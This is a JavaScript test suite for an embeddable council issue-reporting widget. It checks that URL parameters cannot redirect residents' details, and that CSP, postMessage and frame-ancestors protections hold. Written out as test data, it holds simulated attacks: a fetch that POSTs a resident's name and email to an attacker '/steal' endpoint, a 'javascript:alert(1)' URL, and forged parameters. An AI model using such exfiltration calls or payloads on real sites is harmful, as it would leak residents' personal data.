// When scripts cannot be added (issue 12): dist/embed.html in an iframe, the iframe fitted to its
// content by a postMessage restricted to the embedding origin. Its settings come from the
// council-written embed.json beside it, never from the address a link gives (issue 17): an attacker's
// `?endpoint=…&council-phone=…` must not turn the council's own page into a form that sends residents'
// details elsewhere. The page carries a Content-Security-Policy whose connect-src is narrowed to the
// origins embed.json names.
//
// dist/embed.json is the shipped demo sample (src/embed.json); the static server points it at the
// test's Open311 server, as it does the demo pages. Tests that need another embed.json answer the
// request for it themselves (`page.route`).
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { setup } from './harness.mjs';
import { expectStep, mouseFlowToCheck } from './flow-helpers.mjs';
import { serveHttp, startStaticServer } from '../../demo/static.mjs';

let env;
let host;
let attacker;
before(async () => {
  env = await setup();
  // The council's page lives on another origin than the hosted widget.
  host = await startStaticServer({ host: '127.0.0.1' });
  // Where an attacker would like residents' details to go: it records every request it gets, and
  // answers like a friendly Open311 server (CORS open), so nothing stops a page that trusts it.
  attacker = await recordingServer();
});
after(async () => {
  await host?.close();
  await attacker?.close();
  await env?.close();
});

async function recordingServer() {
  const requests = [];
  const server = await serveHttp((req, res) => {
    requests.push(`${req.method} ${req.url}`);
    res.writeHead(req.method === 'OPTIONS' ? 204 : 200, {
      'Access-Control-Allow-Origin': '*',
      'Access-Control-Allow-Headers': '*',
      'Access-Control-Allow-Methods': 'GET, POST',
      'Content-Type': 'application/json',
    });
    res.end(req.method === 'OPTIONS' ? undefined : '[]');
  });
  return { ...server, requests, origin: new URL(server.url).origin };
}

/** The shipped sample as the static server gives it (pointed at the test's Open311 server). */
async function sample() {
  const res = await fetch(`${env.web.url}dist/embed.json`);
  assert.equal(res.status, 200, 'dist/embed.json is built');
  return res.json();
}

/** Answers the page's request for embed.json with `config` (an object), or 404 when it is null. */
async function serveConfig(page, config) {
  await page.route('**/dist/embed.json', (route) => (config === null ? route.fulfill({ status: 404, body: 'Not found' }) : route.fulfill({ json: config })));
}

function embedUrl(params = {}) {
  const u = new URL(`${env.web.url}dist/embed.html`);
  for (const [k, v] of Object.entries(params)) u.searchParams.set(k, v);
  return u.href;
}

/** Every Content-Security-Policy violation in the page and its frames, collected. */
async function watchViolations(page) {
  const violations = [];
  await page.exposeFunction('__reportViolation', (v) => violations.push(v));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => {
      window.__reportViolation(`${e.effectiveDirective} ${e.blockedURI}`);
    });
  });
  return violations;
}

/** The `tel:` links the widget shows (its "other ways to report" among them), in any shadow root. */
const phoneLinks = (frame) => frame.locator('open311-report a[href^="tel:"]').evaluateAll((as) => as.map((a) => a.getAttribute('href')));

const frameHeight = (page) => page.evaluate(() => document.getElementById('report').getBoundingClientRect().height);

/** Step 1 by the place in words (no map, no geocoder), then on to step 2, which lists the services. */
async function toServices(page) {
  await expectStep(page, 'Where is the problem?');
  await page.getByText('describe the location instead').click();
  await page.getByRole('textbox', { name: 'Where is the problem?' }).fill('Outside the library');
  await page.getByRole('button', { name: 'Use this description' }).click();
  await page.getByRole('button', { name: 'Continue' }).locator('visible=true').click();
  await expectStep(page, 'What is the problem?');
}

test('an attacker’s endpoint, phone and email in the address are ignored: the services come from embed.json’s endpoint', async () => {
  const page = await env.page();
  const config = await sample();
  await page.goto(embedUrl({ endpoint: `${attacker.origin}/open311/v2/`, 'council-phone': '0999 999 999', 'council-email': 'steal@attacker.example' }));
  await expectStep(page, 'Where is the problem?');
  const phones = await phoneLinks(page);
  assert.ok(phones.length > 0, 'the council’s phone is offered');
  assert.ok(
    phones.every((href) => !href.includes('0999')),
    `no attacker phone: ${phones}`,
  );
  assert.ok(
    phones.some((href) => href.replace(/\D/g, '') === config['council-phone'].replace(/\D/g, '')),
    `embed.json's phone: ${phones}`,
  );
  await toServices(page);
  await page.getByRole('radio', { name: /^Pothole/ }).waitFor();
  assert.deepEqual(attacker.requests, [], 'nothing reached the attacker');
  assert.equal(await page.locator('open311-report a[href^="mailto:steal"]').count(), 0);
  assert.deepEqual(page.errors, []);
});

test('the whole flow, map included, runs under the page’s CSP with no violation, and the report reaches embed.json’s endpoint', async () => {
  const page = await env.page();
  const violations = await watchViolations(page);
  await page.goto(embedUrl({ endpoint: `${attacker.origin}/open311/v2/`, 'privacy-url': `${attacker.origin}/privacy` }));
  const description = `Embedded report ${Date.now()}`;
  await mouseFlowToCheck(page, description);
  await page.getByRole('button', { name: 'Send report' }).click();
  await expectStep(page, 'Report sent');
  assert.equal((await env.stored()).filter((r) => r.description === description).length, 1, 'the report reached embed.json’s endpoint');
  assert.deepEqual(attacker.requests, [], 'nothing reached the attacker');
  assert.equal(await page.locator(`open311-report a[href^="${attacker.origin}"]`).count(), 0, 'no link to the attacker');
  assert.deepEqual(violations, []);
  assert.deepEqual(page.errors, []);
});

test('with no embed.json the page says it is not set up, and no form is pointed anywhere', async () => {
  const page = await env.page();
  await serveConfig(page, null);
  await page.goto(embedUrl({ endpoint: `${attacker.origin}/open311/v2/`, 'council-phone': '0999 999 999' }));
  const main = page.locator('#open311-embed');
  await main.getByText('not set up').waitFor();
  assert.match(await main.textContent(), /contact the council by phone or email/i, 'the residents’ fallback');
  assert.match(await main.textContent(), /embed\.json/, 'what the web team must do');
  assert.equal(await page.locator('open311-report').count(), 0);
  await page.evaluate(() => new Promise((r) => setTimeout(r, 300)));
  assert.deepEqual(attacker.requests, []);
});

test('an embed.json with unknown keys or a non-http URL is refused, saying which', async () => {
  const page = await env.page();
  await serveConfig(page, { ...(await sample()), endpont: 'x', 'privacy-url': 'javascript:alert(1)' });
  await page.goto(embedUrl());
  const main = page.locator('#open311-embed');
  await main.getByText('not set up').waitFor();
  const text = await main.textContent();
  assert.match(text, /endpont/);
  assert.match(text, /privacy-url/);
  assert.equal(await page.locator('open311-report').count(), 0);
});

test('a parameter embed.json allows (lang=cy) is taken from the address; one it does not is not', async () => {
  const page = await env.page();
  const config = await sample();
  assert.ok(config.queryAllowed.includes('lang'), 'the sample allows lang');
  await page.goto(embedUrl({ lang: 'cy', 'council-phone': '0999 999 999' }));
  await expectStep(page, 'Ble mae’r broblem?');
  assert.equal(await page.evaluate(() => document.documentElement.lang), 'cy');
  assert.ok((await phoneLinks(page)).every((href) => !href.includes('0999')));

  const strict = await env.page();
  await serveConfig(strict, { ...config, queryAllowed: [] });
  await strict.goto(embedUrl({ lang: 'cy' }));
  await expectStep(strict, 'Where is the problem?');
  assert.equal(await strict.evaluate(() => document.documentElement.lang), 'en-GB');
});

test('an endpoint from the address is refused unless its origin is in queryOrigins', async () => {
  const page = await env.page();
  const config = await sample();
  await serveConfig(page, { ...config, queryAllowed: ['endpoint'], queryOrigins: [new URL(config.endpoint).origin] });
  await page.goto(embedUrl({ endpoint: `${attacker.origin}/open311/v2/` }));
  await toServices(page);
  assert.deepEqual(attacker.requests, []);
});

test('the page’s CSP blocks a connection to an origin embed.json does not name', async () => {
  const page = await env.page();
  const violations = await watchViolations(page);
  await page.goto(embedUrl());
  await expectStep(page, 'Where is the problem?');
  const outcome = await page.evaluate(async (url) => {
    try {
      await fetch(url, { method: 'POST', body: 'name=Resident&email=resident@example.org' });
      return 'sent';
    } catch {
      return 'blocked';
    }
  }, `${attacker.origin}/steal`);
  assert.equal(outcome, 'blocked');
  // The violation event comes a moment after the failed fetch.
  for (let i = 0; i < 40 && !violations.length; i++) await new Promise((r) => setTimeout(r, 50));
  assert.ok(
    violations.some((v) => v.startsWith('connect-src') && v.includes(attacker.origin)),
    violations.join('\n'),
  );
  assert.deepEqual(attacker.requests, []);
  const policies = await page.evaluate(() =>
    [...document.querySelectorAll('meta[http-equiv="Content-Security-Policy"]')].map((m) => m.getAttribute('content')),
  );
  assert.equal(policies.length, 2, 'the static policy and the one narrowed to embed.json’s origins');
});

test('the static policy is in embed.html before any script, and forbids inline script, plugins and forms', async () => {
  const html = await readFile(new URL('../../dist/embed.html', import.meta.url), 'utf8');
  const meta = html.indexOf('http-equiv="Content-Security-Policy"');
  assert.ok(meta > 0 && meta < html.indexOf('<script'), 'the policy comes first');
  const policy = html.slice(meta).match(/content="([^"]+)"/)[1];
  for (const directive of ["default-src 'self'", "script-src 'self'", "object-src 'none'", "base-uri 'none'", "form-action 'none'"]) {
    assert.ok(policy.includes(directive), directive);
  }
});

test('the embedded widget works and its iframe fits its content', async () => {
  const page = await env.page();
  await serveConfig(page, { ...(await sample()), parentOrigins: [new URL(host.url).origin] });
  const src = embedUrl();
  await page.goto(`${host.url}test-pages/embed-host.html?embed=${encodeURIComponent(src)}`);
  const frame = page.frameLocator('#report');
  await frame.locator('open311-report [data-step-heading]').filter({ hasText: 'Where is the problem?' }).waitFor();
  await page.waitForFunction(() => document.getElementById('report').getBoundingClientRect().height > 300);
  // A message from anything but that iframe's window and origin is ignored. (The frame may still
  // grow as its content loads, so the check is that the forged height never takes effect.)
  await page.evaluate(() => window.postMessage({ type: 'open311:height', height: 77 }, '*'));
  await page.evaluate(() => new Promise((r) => setTimeout(r, 100)));
  assert.ok((await frameHeight(page)) > 300, 'the forged height was ignored');
  // The flow runs inside the frame: the place in words, then step 2.
  await frame.getByText('describe the location instead').click();
  await frame.getByRole('textbox', { name: 'Where is the problem?' }).fill('Outside the library');
  await frame.getByRole('button', { name: 'Use this description' }).click();
  await frame.getByRole('button', { name: 'Continue' }).locator('visible=true').click();
  await frame.locator('open311-report [data-step-heading]').filter({ hasText: 'What is the problem?' }).waitFor();
  assert.deepEqual(page.errors, []);
});

test('a parent whose origin embed.json does not list never gets the height, even when it names itself', async () => {
  const page = await env.page();
  const src = embedUrl({ 'parent-origin': new URL(host.url).origin });
  await page.goto(`${host.url}test-pages/embed-host.html?embed=${encodeURIComponent(src)}`);
  await page.frameLocator('#report').locator('open311-report [data-step-heading]').waitFor();
  await page.evaluate(() => new Promise((r) => setTimeout(r, 300)));
  assert.equal(Math.round(await frameHeight(page)), 150);
});

test('with the frame-ancestors header of docs/council-it/hosting.md, the council’s site can frame the page and another site cannot', async () => {
  const other = await startStaticServer({ host: '127.0.0.1' });
  const hosted = await startStaticServer({
    endpoint: env.open311.endpoint,
    headers: { 'Content-Security-Policy': `frame-ancestors 'self' ${new URL(host.url).origin}` },
  });
  try {
    const src = `${hosted.url}dist/embed.html`;
    const allowed = await env.page();
    await allowed.goto(`${host.url}test-pages/embed-host.html?embed=${encodeURIComponent(src)}`);
    await allowed.frameLocator('#report').locator('open311-report [data-step-heading]').filter({ hasText: 'Where is the problem?' }).waitFor();

    const refused = await env.page();
    const blocked = refused.waitForEvent('console', (m) => /frame-ancestors/.test(m.text()));
    await refused.goto(`${other.url}test-pages/embed-host.html?embed=${encodeURIComponent(src)}`);
    await blocked;
    const shown = await Promise.all(
      refused
        .frames()
        .filter((f) => f !== refused.mainFrame())
        .map((f) => f.evaluate(() => !!document.getElementById('open311-embed')).catch(() => false)),
    );
    assert.deepEqual(shown, [false], 'the frame shows nothing of the page');
  } finally {
    await hosted.close();
    await other.close();
  }
});
